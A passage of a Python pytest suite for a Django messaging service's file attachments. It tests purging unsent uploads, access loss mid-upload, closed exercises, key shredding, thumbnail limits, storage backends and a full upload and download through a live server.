    assert download(olivia, stale["id"]).status_code == 404
    with pytest.raises(Invalid, match="was never sent and has been removed"):
        send(uk_officer, room, [stale["id"]], seq=2)


def test_a_purged_upload_cannot_be_claimed(olivia: Client, uk_officer: User, room: Room) -> None:
    attachment_id = upload(olivia, room, "old.txt", b"old\n").json()["attachment"]["id"]
    Attachment.objects.filter(pk=attachment_id).update(purged_at=timezone.now())

    with pytest.raises(Invalid, match="was never sent and has been removed"):
        send(uk_officer, room, [attachment_id])


def test_purge_uploads_reports_in_words_and_checks_its_argument(olivia: Client, room: Room) -> None:
    upload(olivia, room, "young.txt", b"young\n")
    out = io.StringIO()

    call_command("purge_uploads", "--older-than", "1", stdout=out)

    assert out.getvalue().startswith("Purged 0 unsent upload(s) older than 1 h")
    assert Attachment.objects.filter(purged_at__isnull=True).count() == 1
    from django.core.management.base import CommandError

    with pytest.raises(CommandError, match="positive"):
        call_command("purge_uploads", "--older-than", "0")


# --- lifecycle edges ------------------------------------------------------------------------------


def test_a_member_removed_during_an_upload_cannot_record_it(
    uk_officer: User, room: Room, store: Path
) -> None:
    in_flight = service.start_upload(
        uploader=uk_officer, room_id=room.pk, filename="late.txt", declared_type="text/plain"
    )
    in_flight.write(b"written while still a member\n")
    in_flight.complete()
    Membership.objects.filter(user=uk_officer).update(removed_at=timezone.now())

    with pytest.raises(AccessDenied):
        in_flight.record()

    assert stored_files(store) == []
    assert not Attachment.objects.exists()


def test_a_closed_exercise_takes_no_uploads_but_its_files_stay_readable(
    olivia: Client, room: Room, sent_attachment: dict[str, Any], store: Path
) -> None:
    Exercise.objects.filter(pk=room.exercise_id).update(status=ExerciseStatus.CLOSED)

    refused = upload(olivia, room, "late.txt", b"too late\n")

    assert refused.status_code == 409
    assert refused.json()["error"]["code"] == "room_closed"
    assert len(stored_files(store)) == 1
    assert download(olivia, sent_attachment["id"]).status_code == 200


def test_shredded_room_keys_make_files_unrecoverable_not_garbled(
    olivia: Client, room: Room, sent_attachment: dict[str, Any]
) -> None:
    destroy_room_keys([room.pk])

    response = download(olivia, sent_attachment["id"])

    assert response.status_code == 410
    assert response.json()["error"]["code"] == "shredded"
    message_id = Attachment.objects.get(pk=sent_attachment["id"]).message_id
    (payload,) = service.payloads_for_messages([message_id])[message_id]
    assert payload["name"] == "Content destroyed by retention policy."


def test_a_large_image_is_accepted_without_a_thumbnail(
    olivia: Client, room: Room, store: Path, settings: Any
) -> None:
    settings.LIAISON_THUMBNAIL_SOURCE_MAX_BYTES = 1000
    image = png_bytes(300, 200, compress_level=0)
    assert len(image) > 1000

    response = upload(olivia, room, "xray.png", image, "image/png")

    assert response.status_code == 201, response.content
    payload = response.json()["attachment"]
    assert (payload["has_thumbnail"], payload["width"], payload["height"]) == (False, 300, 200)
    assert payload["thumbnail_url"] is None
    assert len(stored_files(store)) == 1
    assert olivia.get(f"/api/v1/attachments/{payload['id']}/thumbnail").status_code == 404


def test_any_django_storage_backend_holds_attachments(
    uk_officer: User, room: Room, settings: Any
) -> None:
    settings.STORAGES = {
        **settings.STORAGES,
        "attachments": {"BACKEND": "django.core.files.storage.InMemoryStorage"},
    }
    data = pdf_of_size(3 * MIB)

    attachment = service.upload_attachment(
        uploader=uk_officer,
        room_id=room.pk,
        filename="manifest.pdf",
        declared_type="application/pdf",
        chunks=(data[start : start + 50_000] for start in range(0, len(data), 50_000)),
    )
    _, pieces, name = service.open_download(user=uk_officer, attachment_id=attachment.pk)

    assert name == "manifest.pdf"
    assert b"".join(pieces) == data
    with storage.open_blob(attachment.storage_name) as handle:
        assert b"%PDF" not in handle.read()


# --- through the real server ----------------------------------------------------------------------


@pytest.mark.live_server
def test_a_file_travels_through_the_real_server_intact(
    asgi_server: Any, uk_officer: User, gz_officer: User, room: Room, settings: Any
) -> None:
    import http.client

    from tests.conftest import session_cookie_header

    data = pdf_of_size(3 * MIB + 12345)
    body = multipart("manifest.pdf", data, "application/pdf")
    csrf = "c" * 32
    cookie = session_cookie_header(uk_officer)[1].decode()
    connection = http.client.HTTPConnection(asgi_server.host, asgi_server.port, timeout=60)
    connection.request(
        "POST",
        f"/api/v1/rooms/{room.pk}/attachments",
        body=body,
        headers={
            "Content-Type": f"multipart/form-data; boundary={BOUNDARY}",
            "Cookie": f"{cookie}; {settings.CSRF_COOKIE_NAME}={csrf}",
            "X-CSRFToken": csrf,
        },
    )
    answer = connection.getresponse()
    payload = json.loads(answer.read())
    connection.close()
    assert answer.status == 201, payload
    send(uk_officer, room, [payload["attachment"]["id"]])

    reader = session_cookie_header(gz_officer)[1].decode()
    connection = http.client.HTTPConnection(asgi_server.host, asgi_server.port, timeout=60)
    connection.request("GET", payload["attachment"]["download_url"], headers={"Cookie": reader})
    response = connection.getresponse()
    received = bytearray()
    while piece := response.read(256 * 1024):
        received += piece
    connection.close()

    assert response.status == 200
    assert response.getheader("Content-Length") == str(len(data))
    assert response.getheader("Content-Disposition").startswith("attachment;")
    assert hashlib.sha256(received).hexdigest() == payload["attachment"]["sha256"]
    assert bytes(received) == data
    assert AuditEvent.objects.filter(action="attachment.downloaded", actor=gz_officer).count() == 1
